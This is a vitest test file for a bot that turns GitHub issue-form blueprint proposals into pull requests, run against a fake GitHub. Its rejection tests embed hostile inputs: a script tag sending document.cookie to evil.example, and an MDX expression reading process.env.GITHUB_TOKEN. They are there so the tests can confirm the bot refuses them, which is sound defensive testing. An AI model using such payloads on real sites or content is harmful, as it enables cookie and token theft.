/**
 * The issue-form bot (scripts/propose-from-issue.ts) as the workflow runs it: a real process
 * reading the event payload file, with an app token, against a fake GitHub.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { fileURLToPath } from 'node:url';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { botMarker } from '../../src/lib/contribute/issue-comment';
import { questionById, sectionFieldId } from '../../src/lib/contribute/questions';
import { validateContent } from '../../src/lib/validate';
import { readContentFiles } from '../../src/node/content-files';
import { draftAnswers as validAnswers, issueBody, type IssueAnswers as Answers } from '../fixtures/contribute/answers';
import { projectRoot, runIssueBot, startFakeGitHub, type FakeGitHub, type FakeIssue, type ScriptResult } from '../support/fake-github';
import { nativeMdxParser } from '../../src/lib/validate/native-parser';

/** A small content folder of our own, so these tests never depend on the site's content. */
const contentDir = fileURLToPath(new URL('../fixtures/contribute/content/', import.meta.url));
const slug = 'giving-ward-clerks-a-digital-bed-board-in-six-weeks';
const repoPath = `src/content/blueprints/${slug}.mdx`;
const labels = ['blueprint-proposal', 'content'];

let fake: FakeGitHub;
let work: string;
let count = 0;

beforeAll(async () => {
  fake = await startFakeGitHub();
  fake.addUser('proposal-bot[bot]', 'app-token', 'Bot');
  fake.addUser('proposer', 'proposer-token');
  work = mkdtempSync(join(tmpdir(), 'propose-test-'));
});

afterAll(async () => {
  await fake?.close();
  rmSync(work, { recursive: true, force: true });
});

function repository(): string {
  const name = `commons/site-${++count}`;
  fake.createRepo(name, { collaborators: ['proposal-bot[bot]'] });
  return name;
}

function openIssue(repo: string, answers: Answers, issueLabels = labels): FakeIssue {
  return fake.openIssue(repo, { title: `Proposal: ${answers.title ?? ''}`, body: issueBody(answers), user: 'proposer', labels: issueLabels });
}

/** Runs the bot as the workflow does, for the issue as it is now in the fake. */
const runBot = (repo: string, issue: FakeIssue, action = 'opened'): Promise<ScriptResult> => runIssueBot({ fake, repo, issue, work, contentDir, action });

const botComments = (issue: FakeIssue) => issue.comments.filter((c) => c.body.includes(botMarker));

describe('a valid proposal', () => {
  let repo: string;
  let issue: FakeIssue;
  let result: ScriptResult;
  let branch: string;

  beforeAll(async () => {
    repo = repository();
    issue = openIssue(repo, validAnswers);
    result = await runBot(repo, issue);
    branch = `proposal/issue-${issue.number}-${slug}`;
  });

  it('becomes a pull request from a branch named after the issue and title', () => {
    expect(result.code).toBe(0);
    expect(fake.pulls(repo).map((p) => p.pull!.headRef)).toEqual([branch]);
  });

  it('puts the blueprint at its place in the repository', () => {
    const git = fake.repo(repo).git;
    const file = git.fileAt(git.ref(`heads/${branch}`)!, repoPath)?.toString('utf8') ?? '';
    expect(file).toContain('title: Giving ward clerks a digital bed board in six weeks');
    expect(file).toContain('We ran a six-week pilot on two wards');
  });

  it('commits a file that passes the same checks as the build', () => {
    const git = fake.repo(repo).git;
    const source = git.fileAt(git.ref(`heads/${branch}`)!, repoPath)!.toString('utf8');
    const path = `src/content/blueprints/${slug}.mdx`;
    const { problems } = validateContent([...readContentFiles(projectRoot).files.filter((f) => f.path !== path), { path, source, kind: 'blueprint' }], { parser: nativeMdxParser, only: new Set([path]) });
    expect(problems).toEqual([]);
  });

  it('credits the proposer in the commit', () => {
    const git = fake.repo(repo).git;
    expect(git.readCommit(git.ref(`heads/${branch}`)!).message).toContain('Co-authored-by: proposer <4242+proposer@users.noreply.github.com>');
  });

  it('titles the pull request after the blueprint and closes the issue when merged', () => {
    const [pull] = fake.pulls(repo);
    expect(pull.title).toBe('Blueprint: Giving ward clerks a digital bed board in six weeks');
    expect(pull.body).toContain(`Closes #${issue.number}`);
  });

  it('labels the pull request', () => {
    expect(fake.pulls(repo)[0].labels).toEqual(['content', 'blueprint', 'domain:technical-build']);
  });

  it('replies on the issue with the pull request link', () => {
    const [comment] = botComments(issue);
    expect(comment.body).toContain(`https://github.com/${repo}/pull/${fake.pulls(repo)[0].number}`);
  });
});

describe('editing a proposal', () => {
  let repo: string;
  let issue: FakeIssue;

  beforeAll(async () => {
    repo = repository();
    issue = openIssue(repo, validAnswers);
    await runBot(repo, issue);
    issue.body = issueBody({ ...validAnswers, 'outcome-headline': 'Phone calls to find a bed fell from about 60 a day to 5.' });
    await runBot(repo, issue, 'edited');
  });

  it('updates the same pull request', () => {
    expect(fake.pulls(repo)).toHaveLength(1);
    const git = fake.repo(repo).git;
    const head = git.ref(`heads/${fake.pulls(repo)[0].pull!.headRef}`)!;
    expect(git.fileAt(head, repoPath)?.toString()).toContain('60 a day to 5.');
  });

  it('edits its earlier comment instead of adding another', () => {
    expect(botComments(issue)).toHaveLength(1);
    expect(botComments(issue)[0].body).toContain('Pull request updated');
  });
});

describe('editing a proposal after a maintainer approved its pull request', () => {
  it('leaves the approved version as it is, says so, and updates it again once the approval is withdrawn', async () => {
    const repo = repository();
    fake.addUser(`maintainer-${count}`, `maintainer-token-${count}`);
    fake.repo(repo).collaborators.add(`maintainer-${count}`);
    const review = async (event: string) => {
      const response = await fetch(`${fake.url}/repos/${repo}/pulls/${fake.pulls(repo)[0].number}/reviews`, {
        method: 'POST', headers: { authorization: `token maintainer-token-${count}`, 'content-type': 'application/json' }, body: JSON.stringify({ event, body: event === 'APPROVE' ? '' : 'One more change, please.' }),
      });
      expect(response.ok).toBe(true);
    };
    const issue = openIssue(repo, validAnswers);
    await runBot(repo, issue);
    const git = fake.repo(repo).git;
    const head = () => git.ref(`heads/${fake.pulls(repo)[0].pull!.headRef}`)!;
    const approved = head();
    await review('APPROVE');

    issue.body = issueBody({ ...validAnswers, 'outcome-headline': 'Phone calls to find a bed fell from about 60 a day to 2.' });
    const run = await runBot(repo, issue, 'edited');
    expect(run.code, run.output).toBe(0);
    expect(head()).toBe(approved);
    expect(botComments(issue)).toHaveLength(1);
    expect(botComments(issue)[0].body).toContain(`Your edit was not applied: pull request #${fake.pulls(repo)[0].number} is approved`);

    await review('REQUEST_CHANGES');
    await runBot(repo, issue, 'edited');
    expect(head()).not.toBe(approved);
    expect(git.fileAt(head(), repoPath)?.toString()).toContain('60 a day to 2.');
    expect(botComments(issue)[0].body).toContain('Pull request updated');
  });
});

describe('a proposal with problems', () => {
  it('gets a comment naming a script in a section, and no pull request', async () => {
    const repo = repository();
    const issue = openIssue(repo, { ...validAnswers, [sectionFieldId('What we did')]: 'We did it.\n\n<script>fetch("https://evil.example/?c=" + document.cookie)</script>' });
    const result = await runBot(repo, issue);
    expect(result.code).toBe(0);
    expect(botComments(issue)[0]?.body).toMatch(/\*\*What we did \(line 3 of your answer\)\*\*/);
    expect(fake.pulls(repo)).toEqual([]);
    expect(fake.repo(repo).git.refs()).toEqual(['heads/main']);
  });

  it('gets a comment naming an expression that would read secrets, and no pull request', async () => {
    const repo = repository();
    const issue = openIssue(repo, { ...validAnswers, [sectionFieldId('Costs and funding')]: 'It cost {process.env.GITHUB_TOKEN} pounds.' });
    await runBot(repo, issue);
    expect(botComments(issue)[0]?.body).toMatch(/\*\*Costs and funding \(line 1 of your answer\)\*\*/);
    expect(fake.pulls(repo)).toEqual([]);
  });

  it('gets a comment naming a choice that is not on the list', async () => {
    const repo = repository();
    const issue = openIssue(repo, { ...validAnswers, 'cost-band': 'Loads of money' });
    await runBot(repo, issue);
    expect(botComments(issue)[0]?.body).toContain(`- **${questionById('cost-band')!.label}**: "Loads of money" is not one of the choices: pick one of Under £50k,`);
    expect(fake.pulls(repo)).toEqual([]);
  });

  it('gets its comment turned into the pull request link once fixed', async () => {
    const repo = repository();
    const issue = openIssue(repo, { ...validAnswers, 'cost-band': 'Loads of money' });
    await runBot(repo, issue);
    issue.body = issueBody(validAnswers);
    await runBot(repo, issue, 'edited');
    expect(botComments(issue)).toHaveLength(1);
    expect(botComments(issue)[0].body).toContain('Pull request opened');
    expect(fake.pulls(repo)).toHaveLength(1);
  });
});

describe('a proposal whose author planted the bot’s marker in a comment', () => {
  it('gets its own comment from the bot, and the planted one is left as it was', async () => {
    const repo = repository();
    const issue = openIssue(repo, { ...validAnswers, 'cost-band': 'Loads of money' });
    const planted = { id: 9_000_000 + count, body: `${botMarker}\nI am the bot`, user: 'proposer', created_at: '2025-02-03T10:00:00Z', updated_at: '2025-02-03T10:00:00Z' };
    issue.comments.push(planted);
    const result = await runBot(repo, issue);
    expect(result.code).toBe(0);
    expect(issue.comments.find((c) => c.id === planted.id)?.body).toBe(`${botMarker}\nI am the bot`);
    expect(issue.comments.filter((c) => c.user === 'proposal-bot[bot]').map((c) => c.body)).toEqual([expect.stringContaining('Loads of money')]);
  });
});

describe('a proposal whose title has no Latin letters', () => {
  it('is filed under a slug made from the issue number, not a shared one', async () => {
    const repo = repository();
    const issue = openIssue(repo, { ...validAnswers, title: '电子病历推广' });
    await runBot(repo, issue);
    expect(botComments(issue)[0]?.body ?? '').not.toContain('untitled');
    expect(fake.repo(repo).git.refs().filter((r) => r.includes('untitled'))).toEqual([]);
  });
});

describe('a proposal naming its organisation by name', () => {
  it('is matched to the organisation’s short name on the site', async () => {
    const repo = repository();
    const issue = openIssue(repo, { ...validAnswers, organisation: 'Northmoor Teaching Hospitals NHS Foundation Trust' });
    await runBot(repo, issue);
    const git = fake.repo(repo).git;
    const head = git.ref(`heads/${fake.pulls(repo)[0]?.pull?.headRef}`);
    expect(head && git.fileAt(head, repoPath)?.toString()).toContain('organisation: northmoor-teaching-hospitals');
  });
});

describe('a proposal from an organisation not on the site yet', () => {
  it('is told a maintainer will add it first, rather than that it made a mistake', async () => {
    const repo = repository();
    const issue = openIssue(repo, { ...validAnswers, organisation: 'eastfield-hospitals', 'organisation-name': 'Eastfield Hospitals NHS Trust' });
    await runBot(repo, issue);
    expect(botComments(issue)[0]?.body).toContain('"Eastfield Hospitals NHS Trust" is not on the site yet. A maintainer will add it');
    expect(fake.pulls(repo)).toEqual([]);
  });
});

describe('an issue that is not a proposal', () => {
  it('is left alone, without a single request to GitHub', async () => {
    const repo = repository();
    const issue = openIssue(repo, validAnswers, ['feedback']);
    const mark = fake.requests.length;
    const result = await runBot(repo, issue);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('nothing to do');
    expect(fake.requests.length).toBe(mark);
  });
});
